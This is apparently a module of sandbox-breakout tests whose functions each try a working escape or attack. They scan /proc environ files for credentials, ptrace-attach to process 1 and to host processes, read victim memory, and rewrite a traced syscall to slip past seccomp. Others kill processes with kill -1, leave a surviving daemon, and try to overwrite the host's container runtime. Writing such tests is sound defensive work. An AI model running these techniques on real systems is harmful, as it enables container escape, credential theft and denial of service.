"""Attempts to read, trace, change and kill other processes."""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import time

from securebench.testing.breakout.inside.base import ALONE, ENTERED, Host, Stopped, attempt, only_on, syscall

_SEIZE = 0x4206
_TRACEME, _GETREGS, _SETREGS, _SYSCALL = 0, 12, 13, 24
_SIGSTOP = signal.SIGSTOP
_WATCH_SECONDS = 3.0


def _others() -> list[int]:
    return [
        int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in {os.getpid(), os.getppid()}
    ]


@attempt("find a process of the host", "sees the host's processes", "B07")
def _seen(_host: Host) -> str:
    for pid in _others():
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
            if b"securebench-victim" in file.read():
                return f"process {pid}"
    raise Stopped("not seen")


@attempt("read the host's environment in any `/proc/*/environ`", "reads the host's credentials", "J15")
def _environment(host: Host) -> str:
    for pid in _others():
        with contextlib.suppress(OSError), open(f"/proc/{pid}/environ", "rb") as file:
            if host.secret.encode() in file.read():
                return f"/proc/{pid}/environ"
    raise Stopped("not found")


@attempt("inherit the host's environment variables", "reads the host's credentials", "J15")
def _own_environment(host: Host) -> str:
    for name, value in os.environ.items():
        if host.secret in value:
            return name
    raise Stopped("not found")


def _privileges(pid: str) -> list[str]:
    with open(f"/proc/{pid}/status") as file:
        return [line for line in file if line.startswith(("Uid", "Gid", "Cap", "NoNewPrivs", "Seccomp:"))]


def _require_gain() -> None:
    """Raise :class:`Stopped` if process 1, which is part of the sandbox, has the same privileges as this process."""
    if _privileges("1") == _privileges("self"):
        raise Stopped("process 1 has the same privileges")


@attempt("trace process 1 to use its privileges", "gets the privileges of the sandbox's first process", "I18")
def _trace_first(_host: Host) -> None:
    syscall("ptrace", _SEIZE, 1, 0, 0)
    _require_gain()


@attempt("trace a process of the host", "controls the host's processes", "I18")
def _trace_victim(host: Host) -> None:
    syscall("ptrace", _SEIZE, host.victim, 0, 0)


@attempt("read the memory of a process of the host", "reads the host's secrets", "I18")
def _read_victim(host: Host) -> None:
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_size_t * 2)(0x400000, 8)
    syscall("process_vm_readv", host.victim, local, 1, remote, 1, 0)


@attempt(
    "write `/proc/1/mem` to use the privileges of process 1",
    "gets the privileges of the sandbox's first process",
    "I18",
)
def _write_memory(_host: Host) -> None:
    os.close(os.open("/proc/1/mem", os.O_RDWR))
    _require_gain()


@attempt("compare itself with process 1 (`kcmp`)", "reads kernel addresses", "I18", surface=True)
def _kcmp(_host: Host) -> None:
    syscall("kcmp", 1, os.getpid(), 0, 0, 0)


@attempt("change a system call after the filter saw it (`ptrace`)", "bypasses the seccomp filter", "I18", surface=True)
def _rewrite(_host: Host) -> None:
    only_on("x86_64")
    child = os.fork()
    if child == 0:
        syscall("ptrace", _TRACEME, 0, 0, 0)
        os.kill(os.getpid(), _SIGSTOP)
        os._exit(0 if os.getppid() == 0 else 1)
    os.waitpid(child, 0)
    syscall("ptrace", _SYSCALL, child, 0, 0)
    registers = (ctypes.c_ulonglong * 27)()
    while True:
        stopped = os.waitpid(child, 0)[1]
        if not os.WIFSTOPPED(stopped):
            raise Stopped("the child was not stopped at its system call")
        syscall("ptrace", _GETREGS, child, 0, registers)
        if registers[15] == 110:  # getppid
            break
        syscall("ptrace", _SYSCALL, child, 0, 0)
    registers[15], registers[14] = 272, 0x10000000  # unshare(CLONE_NEWUSER)
    syscall("ptrace", _SETREGS, child, 0, registers)
    syscall("ptrace", _SYSCALL, child, 0, 0)
    os.waitpid(child, 0)
    syscall("ptrace", _GETREGS, child, 0, registers)
    result = ctypes.c_longlong(registers[10]).value
    if result < 0:
        raise OSError(-result, os.strerror(-result))


@attempt("kill a process of the host by its process id", "ends the host's processes", "A05")
def _kill_victim(host: Host) -> str:
    os.kill(host.victim, 0)
    with open(f"/proc/{host.victim}/cmdline", "rb") as file:
        if b"securebench-victim" not in file.read():
            raise Stopped("another process has this pid")
    os.kill(host.victim, signal.SIGKILL)
    return "killed"


@attempt("kill a process of the host by a descriptor (`pidfd_open`)", "ends the host's processes", "A05")
def _pidfd(host: Host) -> None:
    descriptor = syscall("pidfd_open", host.victim, 0)
    with open(f"/proc/{host.victim}/cmdline", "rb") as file:
        if b"securebench-victim" not in file.read():
            raise Stopped("another process has this pid")
    syscall("pidfd_send_signal", descriptor, signal.SIGKILL, 0, 0)


@attempt("outlive the sandbox as a daemon", "leaves a process that survives the sandbox", "A05")
def _daemon(_host: Host) -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for descriptor in range(256):
                with contextlib.suppress(OSError):
                    os.close(descriptor)
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            time.sleep(120)
        os._exit(0)
    raise Stopped("ended with the sandbox")


@attempt("kill everything (`kill -1`)", "ends the host's processes", "A05", staging=ALONE)
def _kill_all(_host: Host) -> None:
    os.kill(-1, signal.SIGKILL)
    raise Stopped("the signal ended the sandbox's processes, and no others")


@attempt("kill process 1", "ends only its own sandbox", "A05", staging=ALONE)
def _kill_first(_host: Host) -> None:
    os.kill(1, signal.SIGKILL)
    time.sleep(0.2)
    raise Stopped("it survives")


@attempt(
    "overwrite the program of a runtime that enters the sandbox",
    "replaces the host's runtime, which then runs as root",
    "I03",
    staging=ENTERED,
)
def _overwrite_runtime(_host: Host) -> str:
    """Keep trying to open each new process's program for writing. This works as soon as no process runs the program."""
    end = time.monotonic() + _WATCH_SECONDS
    held: dict[str, int] = {}
    while time.monotonic() < end:
        for pid in _others():
            with contextlib.suppress(OSError):
                path = os.readlink(f"/proc/{pid}/exe")
                if path not in held:
                    held[path] = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
        for path, program in held.items():
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/self/fd/{program}", os.O_WRONLY))
                return path
    raise Stopped("never writable")
